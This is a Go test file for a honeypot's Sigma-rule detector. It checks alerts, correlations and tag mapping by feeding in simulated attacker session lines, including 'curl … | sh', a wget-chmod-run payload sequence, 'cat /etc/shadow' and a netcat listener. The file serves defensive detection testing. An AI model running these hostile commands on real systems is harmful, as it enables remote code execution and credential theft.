package sigma

import (
	"context"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/internal/detect"
	"honeyguide/internal/rulebook"
)

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

// typed is the n-th line of a session.
func typed(n int, line string) honeyguide.Event {
	e := honeyguide.Event{
		ID: fmt.Sprint("event-", n), Time: noon.Add(time.Duration(n) * time.Second), Observed: noon.Add(time.Duration(n) * time.Second),
		Activity: honeyguide.ActivityCommand, Sensor: "ssh", Service: "ssh", Session: "s1",
		Src: honeyguide.Endpoint{Addr: netip.MustParseAddrPort("198.51.100.7:4711")},
	}
	e.Set(honeyguide.AttrCommand, line)
	return e
}

// bookOf opens a book of rules in a folder of their own.
func bookOf(t testing.TB, rules ...string) (*rulebook.Book, string) {
	t.Helper()
	dir := t.TempDir()
	for i, r := range rules {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%02d.yml", i)), []byte(r), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	book, err := rulebook.Open(t.Context(), rulebook.Options{Folder: dir, Now: func() time.Time { return noon }})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range book.Current().Faults {
		t.Errorf("%s:%d: %s", f.File, f.Line, f.Why)
	}
	return book, dir
}

func detectorOf(t testing.TB, book *rulebook.Book) detect.Detector {
	t.Helper()
	d, err := Kind.Open(context.Background(), nil, detect.Deps{Rules: book})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func feed(t testing.TB, d detect.Detector, events ...honeyguide.Event) (out []honeyguide.Alert) {
	t.Helper()
	for i := range events {
		alerts, err := d.Detect(context.Background(), events[i:i+1])
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, alerts...)
	}
	return out
}

const netcat = `
title: Netcat listens
id: 7a0c3d5e-0000-4000-8000-000000000001
name: test_netcat
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection: {Image|endswith: /nc, CommandLine|contains: ' -l'}
  condition: selection
level: high
`

func TestAlert(t *testing.T) {
	book, _ := bookOf(t, netcat)
	alerts := feed(t, detectorOf(t, book), typed(1, "cd /tmp; nc -lp 4444; nc -l 1"), typed(2, "nc 192.0.2.1 80"))
	if len(alerts) != 1 {
		t.Fatalf("%d alerts, want 1: %+v", len(alerts), alerts)
	}
	a := alerts[0]
	if a.RuleID != "sigma:test_netcat" || a.Title != "Netcat listens" || a.Severity != honeyguide.SeverityHigh || a.Detector != "sigma" || a.DedupeKey != "sigma:test_netcat|198.51.100.7" {
		t.Errorf("alert %+v", a)
	}
	if len(a.Attacks) != 1 || a.Attacks[0].ID != "T1059.004" || a.Attacks[0].Tactic != "TA0002" || a.Category != honeyguide.CategoryIntrusion {
		t.Errorf("attacks %+v, category %s", a.Attacks, a.Category)
	}
	var text strings.Builder
	for _, ev := range a.Evidence {
		text.WriteString(ev.Text + "\n")
	}
	for _, want := range []string{"cd /tmp; nc -lp 4444", `Image has "/nc": "/usr/bin/nc"`, `CommandLine has " -l": "nc -lp 4444"`} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("evidence does not say %q:\n%s", want, text.String())
		}
	}
	x, _ := book.Current().Find("test_netcat")
	if n, last := x.Hits(); n != 1 || !last.Equal(noon.Add(time.Second)) {
		t.Errorf("%d hits, last %v", n, last)
	}
}

// What a flood repeats is explained a few times only.
func TestExplainedOnlyAtFirst(t *testing.T) {
	book, _ := bookOf(t, netcat)
	d := detectorOf(t, book)
	for i := range 10 {
		alerts := feed(t, d, typed(i, "nc -l 1"))
		if want := i < 3; len(alerts) != 1 || (len(alerts[0].Evidence) > 1) != want {
			t.Errorf("event %d: %+v", i, alerts)
		}
	}
}

const guessing = `
title: Log-in fails
name: test_failed
logsource: {product: linux, service: sshd}
detection:
  keywords: ['Failed password']
  condition: keywords
level: low
---
title: Guesses passwords
name: test_guessing
tags: [attack.t1110.001]
correlation:
  type: event_count
  rules: [test_failed]
  group-by: [src_ip]
  timespan: 5m
  condition: {gte: 3}
level: medium
`

func login(n int) honeyguide.Event {
	e := typed(n, "")
	e.Activity, e.Attrs = honeyguide.ActivityLoginFailed, map[string]any{honeyguide.AttrUser: "root", honeyguide.AttrPassword: "x", honeyguide.AttrAuthMethod: "password"}
	return e
}

func TestCorrelation(t *testing.T) {
	book, dir := bookOf(t, guessing)
	d := detectorOf(t, book)
	if a := feed(t, d, login(1), login(2)); len(a) != 0 {
		t.Fatalf("too early: %+v", a)
	}
	// What was counted survives a change of other rules.
	if err := os.WriteFile(filepath.Join(dir, "new.yml"), []byte(netcat), 0o600); err != nil {
		t.Fatal(err)
	}
	if !book.Refresh(t.Context()) {
		t.Fatal("the new file was not seen")
	}
	alerts := feed(t, d, login(3), typed(4, "nc -l 1"))
	if len(alerts) != 2 || alerts[0].RuleID != "sigma:test_guessing" || alerts[0].Count != 3 || len(alerts[0].EventIDs) != 3 || alerts[0].Category != honeyguide.CategoryFailedAuth {
		t.Fatalf("%+v", alerts)
	}
	if alerts[1].RuleID != "sigma:test_netcat" {
		t.Errorf("the new rule does not fire: %+v", alerts[1])
	}
	for name, want := range map[string]int64{"test_failed": 3, "test_guessing": 1} {
		x, _ := book.Current().Find(name)
		if n, _ := x.Hits(); n != want {
			t.Errorf("%s: %d hits, want %d", name, n, want)
		}
	}
}

// A clock that runs ahead must not close everybody's spans.
func TestFutureEventEndsNoSpan(t *testing.T) {
	book, _ := bookOf(t, guessing)
	ahead := login(2)
	ahead.Time = noon.AddDate(1, 0, 0)
	if a := feed(t, detectorOf(t, book), login(1), ahead, login(3)); len(a) != 1 {
		t.Errorf("%+v", a)
	}
}

// The same events give the same alerts, however they are cut.
func TestReplay(t *testing.T) {
	var events []honeyguide.Event
	for i, line := range []string{"nc -l 1", "id", "curl http://198.51.100.9/a | sh", "cat /etc/shadow", "nc -l 2; history -c"} {
		events = append(events, typed(i, line), login(i))
	}
	one := feed(t, detectorOf(t, nil), events...)
	all, err := detectorOf(t, nil).Detect(t.Context(), events)
	if err != nil || len(all) != len(one) || len(one) == 0 {
		t.Fatalf("%d and %d alerts, %v", len(one), len(all), err)
	}
	for i := range one {
		if a, b := fmt.Sprint(one[i]), fmt.Sprint(all[i]); a != b {
			t.Errorf("alert %d:\n%s\n%s", i, a, b)
		}
	}
}

func TestTags(t *testing.T) {
	for _, c := range []struct {
		tags     []string
		category string
		tactic   string
	}{
		{[]string{"attack.t1053.003", "attack.persistence"}, honeyguide.CategoryPersistence, "TA0003"},
		{[]string{"attack.privilege-escalation", "attack.t1053.003"}, honeyguide.CategoryPrivilege, "TA0004"},
		{[]string{"attack.t1110.001", "attack.credential-access"}, honeyguide.CategoryFailedAuth, "TA0006"},
		{[]string{"attack.t9999", "attack.discovery"}, honeyguide.CategoryRecon, "TA0007"},
		{[]string{"attack.stealth", "attack.t1070.003"}, honeyguide.CategoryEvasion, "TA0005"},
		{[]string{"cve.2021-44228", "attack.g0001", "detection.emerging-threats"}, honeyguide.CategoryIntrusion, ""},
	} {
		rule := strings.Replace(netcat, "[attack.execution, attack.t1059.004]", "["+strings.Join(c.tags, ", ")+"]", 1)
		book, _ := bookOf(t, rule)
		a := feed(t, detectorOf(t, book), typed(1, "nc -l 1"))[0]
		tactic := ""
		if len(a.Attacks) > 0 {
			tactic = a.Attacks[0].Tactic
		}
		if a.Category != c.category || tactic != c.tactic {
			t.Errorf("%v: category %s, tactic %q; want %s, %q", c.tags, a.Category, tactic, c.category, c.tactic)
		}
	}
}

// ids are the rules alerts name, each once, in order.
func ids(alerts []honeyguide.Alert) string {
	var out []string
	for _, a := range alerts {
		if id := strings.TrimPrefix(a.RuleID, "sigma:"); !slices.Contains(out, id) {
			out = append(out, id)
		}
	}
	return strings.Join(out, " ")
}

// The shipped correlation of three steps, in one line and in several.
func TestFoothold(t *testing.T) {
	for name, lines := range map[string][]string{
		"one line": {"cd /tmp; wget http://198.51.100.7/x; chmod +x /tmp/x; /tmp/x"},
		"several":  {"cd /tmp; wget http://198.51.100.7/x", "id", "chmod 777 x", "/tmp/x"},
	} {
		var events []honeyguide.Event
		for i, l := range lines {
			events = append(events, typed(i, l))
		}
		if got := ids(feed(t, detectorOf(t, nil), events...)); !strings.Contains(got, "linux_foothold") || !strings.Contains(got, "linux_run_from_stage") {
			t.Errorf("%s: %s", name, got)
		}
	}
	other := typed(3, "/tmp/x")
	other.Src.Addr = netip.MustParseAddrPort("198.51.100.8:1")
	if got := ids(feed(t, detectorOf(t, nil), typed(1, "cd /tmp; wget http://198.51.100.7/x"), typed(2, "chmod 777 x"), other)); strings.Contains(got, "linux_foothold") {
		t.Errorf("steps of two sources are one: %s", got)
	}
}

// windowsEvent is a record of the security log as its mapper hands it on.
func windowsEvent(n, id int, fields map[string]string) honeyguide.Event {
	at := noon.Add(time.Duration(n) * time.Second)
	e := honeyguide.Event{ID: fmt.Sprint("win-", n), Time: at, Observed: at, Activity: "record", Sensor: "windows"}
	e.Set(honeyguide.AttrProduct, "windows")
	e.Set(honeyguide.AttrLogProduct, "windows")
	e.Set("unmapped.Channel", "Security")
	e.Set("unmapped.EventID", int64(id))
	for k, v := range fields {
		e.Set("unmapped."+k, v)
	}
	return e
}

func TestWindowsGuessing(t *testing.T) {
	var events []honeyguide.Event
	for i := range 25 {
		events = append(events, windowsEvent(i, 4625, map[string]string{"IpAddress": "198.51.100.7"}))
	}
	if got := ids(feed(t, detectorOf(t, nil), events[:19]...)); got != "" {
		t.Errorf("19 failures: %s", got)
	}
	if got := ids(feed(t, detectorOf(t, nil), events...)); got != "windows_password_guessing" {
		t.Errorf("25 failures: %q", got)
	}
}

// What happens too seldom is told at the end of the span, about who was counted.
func TestCorrelationAtEndOfSpan(t *testing.T) {
	few := strings.Replace(guessing, "condition: {gte: 3}", "condition: {lt: 3}", 1)
	book, _ := bookOf(t, few)
	stranger := typed(1000, "id")
	stranger.Src.Addr = netip.MustParseAddrPort("198.51.100.99:1")
	alerts := feed(t, detectorOf(t, book), login(1), login(2), stranger)
	if len(alerts) != 1 || alerts[0].Src.Addr.Addr().String() != "198.51.100.7" || alerts[0].Count != 2 {
		t.Errorf("%+v", alerts)
	}
}

// What is timed fires as what is not, and the time is told of the rules asked.
func TestTimedEvents(t *testing.T) {
	book, _ := bookOf(t, netcat)
	d := detectorOf(t, book)
	n := 0
	for i := range 3 * rulebook.Sampled {
		n += len(feed(t, d, typed(i, "nc -l 1")))
	}
	x, _ := book.Current().Find("test_netcat")
	if asks, _ := x.Cost(); n != 3*rulebook.Sampled || asks != 3*rulebook.Sampled {
		t.Errorf("%d alerts, asked %d times", n, asks)
	}
}
